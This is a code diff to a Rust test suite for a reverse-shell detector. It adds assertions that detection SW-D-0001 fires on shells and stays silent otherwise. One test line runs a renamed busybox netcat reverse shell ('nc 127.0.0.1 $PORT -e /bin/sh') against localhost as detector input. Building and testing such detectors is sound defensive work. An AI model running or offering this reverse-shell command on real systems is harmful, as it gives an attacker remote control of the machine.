@@ -6,6 +6,9 @@ use std::net::{TcpListener, TcpStream};
 use std::process::Child;
 use std::time::Duration;
 
+/// The detection of reverse shells in `content/`.
+const DETECTION: &str = "SW-D-0001";
+
 /// What the attacker's side types; the answer proves that a shell was there.
 const TYPED: &[u8] = b"echo made-$((6*7))\nexit\n";
 const ANSWER: &str = "made-42";
@@ -61,6 +64,10 @@ fn check_shell(rig: &Rig, script: &str) -> Event {
     };
     let event = found.unwrap_or_else(|| panic!("not recognised:\n{}", seen()));
     end(child);
+    let firings = rig.firings(DETECTION, pid);
+    let fired = firings.first().expect("the detection fires");
+    assert_eq!(fired.location.node.as_deref(), Some("test-node"));
+    assert!(!fired.why.is_empty() && !fired.tactics.is_empty(), "{fired:?}");
     event
 }
 
@@ -123,13 +130,14 @@ fn renamed_static_binary() {
     check_shell(rig, &format!("exec -a busybox {} nc 127.0.0.1 $PORT -e /bin/sh", copy.display()));
 }
 
-/// What `script` does must not look like a reverse shell; `done` says when it is over.
+/// What ran below `pid` must not look like a reverse shell.
 #[track_caller]
 fn check_silent(rig: &Rig, pid: u32) {
     std::thread::sleep(Duration::from_millis(300));
     let events = rig.events();
     let wrong = events.iter().find(|event| below(event, pid) && is_reverse(event));
     assert!(wrong.is_none(), "{wrong:?}");
+    assert_eq!(rig.firings(DETECTION, pid), []);
     assert!(
         events.iter().any(|event| below(event, pid) && event.kind == EventKind::Exec),
         "nothing was seen at all"
